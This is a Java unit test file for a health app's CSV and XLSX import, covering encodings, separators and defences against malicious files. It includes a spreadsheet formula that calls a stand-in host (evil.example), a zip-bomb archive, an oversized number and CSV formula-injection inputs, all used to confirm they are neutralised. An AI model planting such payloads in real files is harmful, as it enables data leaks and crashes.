package health.waymark.backend.imports;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.dhatim.fastexcel.Workbook;
import org.dhatim.fastexcel.Worksheet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Files come as spreadsheets and programs of all sorts write them. */
class FilesTests {

    private static final TableLimits LIMITS = new TableLimits(1_000, 20, 1_000_000);

    @ParameterizedTest
    @CsvSource({
        "UTF-8, ''",
        "UTF-8, \uFEFF",
        "UTF-16LE, \uFEFF",
        "UTF-16BE, \uFEFF",
        "UTF-16LE, ''",
        "UTF-16BE, ''",
        "windows-1252, ''"
    })
    void areReadInWhateverEncodingTheyAre(String encoding, String mark) {
        byte[] file =
                (mark + "id;naam\n1;Zorgcentrum Sint-Géry ’s-Hertogenbosch\n").getBytes(Charset.forName(encoding));

        TableFile table = CsvFile.read(file, LIMITS);

        assertThat(table.columns()).containsExactly("id", "naam");
        assertThat(table.rows().get(0).cells()).containsExactly("1", "Zorgcentrum Sint-Géry ’s-Hertogenbosch");
    }

    @ParameterizedTest
    @ValueSource(strings = {",", ";", "\t"})
    void areTakenApartAtWhateverSeparates(String separator) {
        String file = "id,name,comment\r\n1,\"a,b;c\td\",\"two\r\nlines \"\"quoted\"\"\"\r\n\r\n2,e,f\r\n";
        // The separators inside of quotes stay as they are.
        String quoted = "\"a,b;c\td\"";
        byte[] bytes = file.replace(quoted, "@")
                .replace(",", separator)
                .replace("@", quoted)
                .getBytes(StandardCharsets.UTF_8);

        TableFile table = CsvFile.read(bytes, LIMITS);

        assertThat(table.rows().get(0).cells()).containsExactly("1", "a,b;c\td", "two\r\nlines \"quoted\"");
        assertThat(table.rows().get(1).line()).as("as an editor counts").isEqualTo(5);
    }

    @Test
    void haveColumnsThatCanBeToldApart() {
        TableFile table = CsvFile.read(",name,name\n1,a,b,c\n".getBytes(StandardCharsets.UTF_8), LIMITS);

        assertThat(table.columns()).containsExactly("Column 1", "name", "name (2)", "Column 4");
    }

    @Test
    void giveTheValueOfAFormulaAndNeverComputeIt() throws IOException {
        ByteArrayOutputStream file = new ByteArrayOutputStream();
        try (Workbook workbook = new Workbook(file, "Test", "1.0")) {
            Worksheet sheet = workbook.newWorksheet("List");
            sheet.value(0, 0, "id");
            sheet.value(0, 1, "lat");
            sheet.value(0, 2, "sum");
            sheet.value(1, 0, 9_990_010_000L);
            sheet.value(1, 1, 51.3);
            sheet.formula(1, 2, "WEBSERVICE(\"http://evil.example\")");
        }

        TableFile table = XlsxFile.read(file.toByteArray(), LIMITS);

        assertThat(table.columns()).containsExactly("id", "lat", "sum");
        assertThat(table.rows().get(0).cell(0)).isEqualTo("9990010000");
        assertThat(table.rows().get(0).cell(1)).isEqualTo("51.3");
        assertThat(table.rows().get(0).cell(2)).isEmpty();
    }

    /** Written out it would have a billion digits, and end the backend. */
    @ParameterizedTest
    @ValueSource(strings = {"1E-999999999", "1E+999999999"})
    void leaveANumberAsItIsThatIsTooLongToWriteOut(String number) throws IOException {
        ByteArrayOutputStream file = new ByteArrayOutputStream();
        try (Workbook workbook = new Workbook(file, "Test", "1.0")) {
            Worksheet sheet = workbook.newWorksheet("List");
            sheet.value(0, 0, "lat");
            sheet.value(1, 0, new BigDecimal(number));
        }

        TableFile table = XlsxFile.read(file.toByteArray(), LIMITS);

        assertThat(table.rows().get(0).cell(0)).isEqualTo(number);
    }

    @Test
    void areRefusedWhenTheyWouldUnpackToTooMuch() throws IOException {
        ByteArrayOutputStream file = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(file)) {
            zip.putNextEntry(new ZipEntry("xl/worksheets/sheet1.xml"));
            for (int piece = 0; piece < 100; piece++) {
                zip.write(new byte[100_000]);
            }
        }

        assertThat(file.size()).isLessThan(20_000);
        assertThatThrownBy(() -> XlsxFile.read(file.toByteArray(), LIMITS)).hasMessageContaining("Unpacked");
    }

    @ParameterizedTest
    @ValueSource(strings = {"PK\u0003\u0004 and nothing else", "PK"})
    void areRefusedWhenTheyAreBroken(String file) {
        assertThatThrownBy(() -> XlsxFile.read(file.getBytes(StandardCharsets.ISO_8859_1), LIMITS))
                .hasMessageContaining("cannot be read as XLSX");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "id,name\n", "\n\n \n"})
    void areRefusedWithoutRows(String file) {
        assertThatThrownBy(() -> CsvFile.read(file.getBytes(StandardCharsets.UTF_8), LIMITS))
                .hasMessageContaining("no rows");
    }

    @Test
    void goToXlsxAndBackAsTheyWere() throws IOException {
        List<List<String>> rows = List.of(
                List.of("id", "name", "note"), List.of("007", "=1+1", "two\nlines"), List.of("1.50", "@x", "Zürich"));
        ByteArrayOutputStream file = new ByteArrayOutputStream();
        try (TableWriter table = TableWriter.Format.XLSX.to(file)) {
            for (List<String> row : rows) {
                table.row(row);
            }
        }

        TableFile table = XlsxFile.read(file.toByteArray(), LIMITS);

        assertThat(table.columns()).isEqualTo(rows.get(0));
        assertThat(table.rows().stream().map(ImportRow::cells)).isEqualTo(rows.subList(1, 3));
    }

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "＝1+1", "plain", "'quoted", "'", ""})
    void holdNoFormulasAndComeBackEqual(String cell) throws IOException {
        ByteArrayOutputStream file = new ByteArrayOutputStream();
        try (TableWriter table = TableWriter.Format.CSV.to(file)) {
            table.row(List.of("id", "cell"));
            table.row(List.of("1", cell));
        }
        String written = file.toString(StandardCharsets.UTF_8);

        assertThat(written).doesNotContainPattern("\"[=+@\t＝-]");
        ImportRow row = CsvFile.read(file.toByteArray(), LIMITS).rows().get(0);
        assertThat(row.cell(1)).isEqualTo(cell.strip());
    }
}
